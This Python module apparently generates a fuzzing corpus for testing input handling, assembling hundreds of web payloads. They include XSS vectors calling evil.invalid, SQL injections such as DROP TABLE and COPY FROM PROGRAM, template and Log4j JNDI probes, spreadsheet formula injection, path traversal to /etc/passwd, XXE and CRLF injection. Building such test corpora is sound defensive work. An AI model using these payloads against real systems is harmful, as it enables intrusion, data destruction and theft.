"""Texts that would do harm where a page, a store, a spreadsheet or a disk took them for more than text.

Put together from what is to be run, how it is wrapped, and how it gets out of where it stands. The order is fixed.
"""

from __future__ import annotations

from collections.abc import Iterator
from itertools import chain, product, zip_longest

BODIES = ("window.pwned=1", "alert(1)", "fetch('//evil.invalid/p')", "top.location='//evil.invalid/'")
WRAPS = (
    "<script>{}</script>",
    "<img src=x onerror={}>",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<body onload={}>",
    "<input autofocus onfocus={}>",
    "<details open ontoggle={}>x</details>",
    "<video><source onerror={}></video>",
    "<iframe srcdoc='<script>parent.{}</script>'></iframe>",
    "<a href=javascript:{} autofocus>x</a>",
    "<math><mtext><style><img src=x onerror={}></style></mtext></math>",
    "<div hx-on::load={} hx-get=/x hx-trigger=load>x</div>",
    "<p style=animation-name:x onanimationstart={}>x</p>",
    "<marquee onstart={}>x</marquee>",
    "<object data=javascript:{}></object>",
    "<form><button formaction=javascript:{} autofocus>x</button></form>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
)
ESCAPES = (
    "",
    '">',
    "'>",
    "</textarea>",
    "</title>",
    "</script>",
    "</option></select>",
    "-->",
    "]]>",
    '" autofocus onfocus=window.pwned=1 x="',
    "' onmouseover=window.pwned=1 x='",
    "\\x22>",
    "&quot;&gt;",
)
TEMPLATES = (
    "{{7*7}}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{% raise 'x' %}",
    "{{config}}",
    "{{''.__class__.__mro__}}",
    "%(secret)s",
    "%s%s%s%n",
    "{0.__class__}",
    "${jndi:ldap://evil.invalid/a}",
    "{{constructor.constructor('alert(1)')()}}",
)
QUERIES = (
    "' OR '1'='1",
    "'; DROP TABLE holdings;--",
    '" OR 1=1--',
    "1) UNION SELECT * FROM officers--",
    "'||(SELECT 1)||'",
    "\\'; --",
    "%' --",
    "' AND sleep(5)--",
    "'; COPY x FROM PROGRAM 'id';--",
    "$$;SELECT 1;$$",
    "[$ne]",
    '{"$gt":""}',
)
FORMULAS = tuple(
    sign + rest
    for sign, rest in product(
        "=+-@\t", ("cmd|' /C calc'!A0", 'HYPERLINK("//evil.invalid")', "1+1", "SUM(A1:A9)")
    )
)
PATHS = tuple(
    start + end
    for start, end in product(
        (
            "../../../../",
            "..\\..\\..\\",
            "%2e%2e%2f%2e%2e%2f",
            "....//....//",
            "/",
            "file:///",
            "//evil.invalid/",
            "C:\\",
        ),
        ("etc/passwd", "node.db", "keys/ring.db", "x.html\0.csv"),
    )
)
ODD = (
    "\u202egnp.exe",
    "\u2066\u2067\u2068x\u2069",
    "a\u0300" * 60,
    "\ufeffx",
    "\u0000",
    "x\u0000y",
    "\x1b[31mred",
    "\x7f",
    "\ud83d\udc6e\u200d\u2642\ufe0f".encode("utf-16", "surrogatepass").decode("utf-16"),
    "ＳＣＲＩＰＴ＞",
    "＜img src=x onerror=alert(1)＞",
    "x\r\nSet-Cookie: a=b",
    "x\r\n\r\n<script>alert(1)</script>",
    "a" * 4096,
    "\U0001f600" * 1024,
    "<" * 2000,
    "&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
    "<style>@import'//evil.invalid/x.css'</style>",
    "<link rel=stylesheet href=//evil.invalid/x.css>",
    "<base href=//evil.invalid/>",
    "<img src=//evil.invalid/p.png>",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "-1",
    "1e309",
    "NaN",
    "null",
    "undefined",
    "true",
    "0",
    "\u2028alert(1)\u2029",
    "İ",
    "ﬀ",
    "\u0130\u0131",
    "\u00ad",
)


def payloads() -> list[str]:
    """Every text, each once: the kinds by turns, so that the first few are of all kinds."""
    scripts = (
        escape + wrap.format(body)
        for (number, wrap), (other, escape) in product(enumerate(WRAPS), enumerate(ESCAPES))
        for body in (BODIES[(number + other) % 4], BODIES[(number + other + 1) % 4])
    )
    kinds = (_spread(list(scripts)), ODD, PATHS, FORMULAS, QUERIES, TEMPLATES)
    turns = chain.from_iterable(zip_longest(*kinds))
    return list(dict.fromkeys(text for text in turns if text is not None))


def _spread(texts: list[str]) -> Iterator[str]:
    """The same texts, neighbours far apart."""
    step = 101  # a prime, and so it meets every place
    return (texts[place * step % len(texts)] for place in range(len(texts)))
